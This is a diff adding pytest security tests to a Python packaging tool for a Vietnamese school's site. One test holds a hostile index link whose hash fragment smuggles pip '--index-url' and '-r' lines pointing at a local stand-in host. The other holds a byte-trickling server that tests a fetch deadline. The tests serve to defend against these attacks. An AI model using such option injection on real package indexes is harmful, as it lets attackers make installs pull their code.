@@ -10,6 +10,8 @@ installed from a served index into a fresh environment; nginx serves the built s
 from __future__ import annotations
 
 import difflib
+import http.server
+import time
 import json
 import os
 import re
@@ -22,7 +24,8 @@ import pytest
 from conftest import DEMO_FOLDER, DEMO_TODAY, ROOT, run_python, serving
 
 from gecolumn import __version__
-from gecolumn.package_index import write_index
+from gecolumn import package_index
+from gecolumn.package_index import IndexUnusable, write_index
 from gecolumn.pins import build_pins, normalised, read_pins
 
 SCHOOL = ["--school", "Trường THCS Bảo Khê", "--unit", "thcs-bao-khe", "--url", "https://thcs-baokhe.edu.vn/binh-dang-gioi/"]
@@ -337,3 +340,40 @@ def test_a_release_installs_from_a_served_index_into_a_fresh_environment_with_ha
     installed = {normalised(name): version for name, version in re.findall(r"(?m)^([\w.-]+)==(\S+)$", freeze)}
     assert installed["gecolumn"] == __version__
     assert all(installed[pin.name] == pin.version for pin in build_pins())
+
+
+def test_an_index_page_cannot_write_lines_into_the_schools_requirements(tmp_path):
+    # A link's fragment is the hash pip will check; a hostile index hid options after it.
+    index = tmp_path / "public" / "goi"
+    index.mkdir(parents=True)
+    _fake_release(index, "9.9.9")
+    page = index / "simple" / "gecolumn" / "index.html"
+    wheel = "gecolumn-9.9.9-py3-none-any.whl"
+    hostile = f'<a href="{wheel}#sha256={"a" * 64}&#10;--index-url http://127.0.0.1:9/&#10;-r http://127.0.0.1:9/x">w</a>'
+    page.write_text(page.read_text(encoding="utf-8").replace("</body>", hostile + "</body>"), encoding="utf-8")
+    with serving(tmp_path / "public") as server:
+        version, pins = package_index.published(f"{server}/goi/simple/")
+    [own] = [pin for pin in pins if pin.name == "gecolumn"]
+    assert version == "9.9.9" and all(re.fullmatch(r"sha256:[0-9a-f]{64}", digest) for digest in own.hashes)
+    written = package_index.write_requirements(list(pins), index=f"{server}/goi/simple/")
+    assert not [line for line in written.splitlines() if line.lstrip().startswith(("--index-url", "-r "))]
+
+
+def test_an_index_that_sends_a_byte_at_a_time_is_given_up_at_its_deadline(tmp_path, monkeypatch):
+    class Trickle(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802 (http.server's naming)
+            self.send_response(200)
+            self.end_headers()
+            for _ in range(40):  # 8 s in all, then the thread ends by itself
+                self.wfile.write(b"<")
+                self.wfile.flush()
+                time.sleep(0.2)
+
+        def log_message(self, *args):
+            pass
+
+    monkeypatch.setattr(package_index, "DEADLINE", 1.0)
+    started = time.monotonic()
+    with serving(tmp_path, Trickle) as server, pytest.raises(IndexUnusable):
+        package_index.published(f"{server}/simple/")
+    assert time.monotonic() - started < 3
